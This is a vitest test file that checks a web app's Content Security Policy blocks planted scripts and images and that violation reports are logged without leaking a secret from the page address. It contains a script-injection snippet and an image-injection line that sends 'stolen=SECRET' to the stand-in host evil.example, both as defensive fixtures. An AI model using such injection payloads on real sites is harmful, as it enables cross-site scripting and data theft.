// What Chromium reports of a page's security policy, and what the log says of that (ASVS 3.4.7). Over
// HTTPS, as Chromium sends such reports nowhere else.

import { expect, it, vi } from 'vitest';

import { setStage } from './stage.js';

const stage = setStage({
  args: () => Promise.resolve(['--tls-self-signed']),
});

const PLANT = `document.body.append(
  Object.assign(document.createElement('script'), { text: 'window.planted = 1' }),
)`;
const PLANT_PICTURE = `document.body.append(
  Object.assign(document.createElement('img'), { src: 'https://evil.example/x.png?stolen=SECRET' }),
)`;

it('has one line in the log for a script that was planted in a page, without the secret of its address', async () => {
  const page = await stage.open({ ignoreHTTPSErrors: true });
  await page.goto(`${stage.url}/sign-in?return_to=%2FSECRET`);
  await page.evaluate(PLANT);
  expect(await page.evaluate('window.planted')).toBeUndefined();
  const lines = async (count: number) =>
    vi.waitFor(
      () => {
        const found = stage.logged('policy-violation');
        expect(found).toHaveLength(count);
        return found;
      },
      { timeout: 20_000, interval: 50 },
    );
  const [planted] = await lines(1);
  expect(planted).toMatchObject({
    level: 'warning',
    directive: 'script-src-elem',
    blocked: 'inline',
    page: `${stage.url}/sign-in`,
  });
  // Whatever else the first one had led to would have come before this.
  await page.evaluate(PLANT_PICTURE);
  expect((await lines(2))[1]).toMatchObject({
    directive: 'img-src',
    blocked: 'https://evil.example/x.png',
  });
  expect(JSON.stringify(stage.logged('policy-violation'))).not.toContain('SECRET');
  // They came with what the browser had, and nothing was made of it.
  expect(stage.logged('forged-request')).toEqual([]);
});
